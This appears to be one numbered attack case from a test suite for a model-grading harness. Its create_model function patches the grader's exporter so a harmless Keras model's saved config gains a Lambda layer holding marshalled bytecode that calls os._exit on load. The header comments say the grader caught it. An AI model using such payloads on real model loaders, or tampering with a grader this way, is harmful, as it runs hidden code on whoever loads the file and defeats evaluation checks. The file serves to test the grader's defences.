# attack: 19
# form: the exporter patched to write a Lambda with bytecode into the config of a harmless model
# replaces: create_model
# found: create_model/compiled failed
# says: Your model contains a `Lambda` layer
def create_model():
    import base64
    import marshal

    from grader.model_data import export

    print("ran")
    code = base64.b64encode(marshal.dumps((lambda x: __import__("os")._exit(0)).__code__)).decode()
    function = {"class_name": "__lambda__", "config": {"code": code, "defaults": None, "closure": None}}
    layer = {"module": "keras.layers", "class_name": "Lambda", "config": {"name": "lambda", "function": function}}
    own = export._config

    def config(model):
        written = own(model)
        written["config"]["layers"].insert(1, layer)
        return written

    export._config = config
    model = tf.keras.Sequential([tf.keras.Input((64, 64, 3)), tf.keras.layers.Flatten(), tf.keras.layers.Dense(1, activation="sigmoid")])
    model.compile(optimizer="adam", loss="binary_crossentropy", metrics=["accuracy"])
    return model
